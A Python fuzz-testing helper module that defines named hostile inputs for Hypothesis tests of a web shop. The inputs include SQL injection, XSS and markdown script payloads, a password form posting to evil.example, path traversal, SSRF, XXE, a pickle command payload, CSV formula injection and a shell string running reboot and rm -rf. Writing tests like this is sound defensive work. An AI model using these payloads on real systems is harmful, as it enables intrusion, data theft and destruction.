"""What somebody might send who means no good, by name; and more of the kind for Hypothesis.

FLAG is set in the browser's window by every script among the texts, should one ever run.
"""

from __future__ import annotations

import os

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

FLAG = "shop_was_entered"
_RUN = f"window.{FLAG}=1"

SQL = {
    "sql-or": "' OR '1'='1",
    "sql-comment": "admin' -- ",
    "sql-stacked": "x'; DROP TABLE orders; -- ",
    "sql-union": "' UNION SELECT password_hash FROM users -- ",
    "sql-backslash": "\\' OR 1=1 #",
    "sql-like": "%_%",
    "sql-sleep": "1 AND SLEEP(5)",
    "sql-fulltext": '+a* -b ~c <d >e "f g"@2 (h',
    "sql-bind": ":user_id :name %s %(name)s ?",
}
HTML = {
    "html-script": f"<script>{_RUN}</script>",
    "html-image": f'<img src=x onerror="{_RUN}">',
    "html-svg": f"<svg/onload={_RUN}>",
    "html-attribute": f'" autofocus onfocus="{_RUN}" x="',
    "html-close": f"</style></textarea></title></p><script>{_RUN}</script>",
    "html-frame": f'<iframe srcdoc="<script>parent.{FLAG}=1</script>"></iframe>',
    "html-link": f'<a href="javascript:{_RUN}">x</a>',
    "html-remote": '<img src="//evil.example/x.png"><link rel=stylesheet href=//evil.example/x>',
    "html-entity": "&lt;script&gt; &#x3c;b&#x3e; &amp;amp;",
    "html-form": '<form action="//evil.example"><input name=password></form>',
}
MARKDOWN = {
    "md-link": f"[x](javascript:{_RUN})",
    "md-image": "![x](//evil.example/x.png)",
    "md-reference": "[x]: //evil.example\n[x]",
    "md-directive": ":red[x] :material/bomb: :streamlit: :blue-badge[x",
    "md-math": r"$\href{javascript:alert(1)}{x}$ $$\frac{1$$ $\def\a{\a\a}\a$",
    "md-heading": "# x\n## y\n- [ ] z\n> q\n```\ncode",
    "md-table": "|a|b|\n|-|-|\n|1|2|",
    "md-html": f"**<img src=x onerror={_RUN}>**",
    "md-emphasis": "***___~~~```|||",
}
UNICODE = {
    "nul": "a\x00b",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "surrogate": "a\ud800b",
    "surrogate-low": "\udfff",
    "bidi": "\u202etxt.exe\u202c \u2066x\u2069 \u200f",
    "zero-width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "only-invisible": "\u200b\u2060\ufeff\u00ad",
    "zalgo": "a" + "\u0301\u0489\u20dd" * 300,
    "emoji": "👩🏽‍🚀🏳️‍🌈🇻🇳👨‍👩‍👧‍👦",
    "astral": "\U0001f4a9\U0010ffff𝕏",
    "noncharacter": "\ufffe\uffff\ufdd0",
    "separators": "a\u2028b\u2029c\x85d",
    "turkish": "İıſßŉﬃ",
    "decomposed": "Ê\u0323\u0309 ế e\u0302\u0301",
    "wide-digits": "１２３",
    "blank": " \t\u00a0\u3000 ",
    "empty": "",
}
SYSTEM = {
    "csv-formula": "=cmd|'/c calc'!A1",
    "csv-plus": "+1+1",
    "csv-at": "@SUM(1+1)*cmd",
    "csv-minus": "-2+3",
    "csv-quote": '"a""b;c,d\te\n"',
    "path": "../../../../etc/passwd",
    "path-windows": "..\\..\\windows\\win.ini",
    "path-encoded": "%2e%2e%2f%00.svg",
    "path-url": "file:///etc/passwd",
    "ssrf": "http://169.254.169.254/latest/meta-data",
    "crlf": "x\r\nSet-Cookie: session=y\r\n\r\n<h1>",
    "template": "{0.__class__} {name!r:>99999} {} {{7*7}} ${7*7}",
    "percent": "100%s %n %d %(x)s %",
    "shell": "$(reboot) `id` ; rm -rf / | cat & ",
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "json": '{"__proto__": {"a": 1}, "id": [1, {}]}',
    "log": "ok\nCRITICAL root: forged line",
    "pickle": "cos\nsystem\n(S'id'\ntR.",
    "long": "x" * 100_000,
    "long-wide": "Ế" * 20_000,
    "long-words": "á " * 5_000,
    "regex": "a" * 200 + "!" + "(" * 200,
}
NUMBERS = {
    "nan": "nan",
    "inf": "-inf",
    "overflow": "1e309",
    "exponent": "1e9999999999",
    "minus-zero": "-0",
    "zero": "0",
    "minus": "-1",
    "int32": str(2**31),
    "int64": str(2**63),
    "uint64": str(2**64 + 1),
    "long-number": "9" * 5_000,
    "fraction": "1.5",
    "fine-fraction": "0." + "0" * 40 + "1",
    "hex": "0x10",
    "underscore": "1_000",
    "arabic": "١٢٣",
    "superscript": "²",
    "roman": "Ⅷ",
    "list": "1,2,3,,x",
    "long-list": ",".join(map(str, range(3_000))),
    "true": "True",
    "none": "None",
}
DATES = {
    "date-zero": "0000-00-00",
    "date-far": "9999-12-31",
    "date-over": "10000-01-01",
    "date-first": "0001-01-01",
    "date-leap": "2023-02-29",
    "date-range": "2024-01-01..2023-01-01",
    "date-time": "2024-01-01T25:61:61Z",
    "date-arabic": "٢٠٢٤-٠١-٠١",
}
TEXTS = SQL | HTML | MARKDOWN | UNICODE | SYSTEM | NUMBERS | DATES

EXAMPLES = int(os.environ.get("GLASS_FUZZ_EXAMPLES", "0"))  # of Hypothesis; `make fuzz` gives more


def examples(few: int) -> settings:
    """`few` of them, always the same, in the suite; others at every run of `make fuzz`."""
    return settings(
        max_examples=EXAMPLES or few,
        derandomize=not EXAMPLES,
        database=None,
        deadline=None,
        print_blob=bool(EXAMPLES),
        suppress_health_check=list(HealthCheck),
    )


def chosen(few: int, at: int = 0) -> dict[str, str]:
    """`few` of the texts, others for each `at`; with `make fuzz` all of them."""
    if EXAMPLES or few >= len(TEXTS):
        return TEXTS
    names = list(TEXTS)
    step = len(names) // few
    return {name: TEXTS[name] for name in (names[(at + i * step) % len(names)] for i in range(few))}


def texts() -> st.SearchStrategy[str]:
    """Anything, also what no encoding holds; and the texts above put together."""
    known = st.sampled_from(sorted(TEXTS.values(), key=len)[:-4])
    anything = st.text(st.characters(), max_size=300)
    joined = st.lists(known | anything, min_size=1, max_size=3).map("".join)
    return known | anything | joined
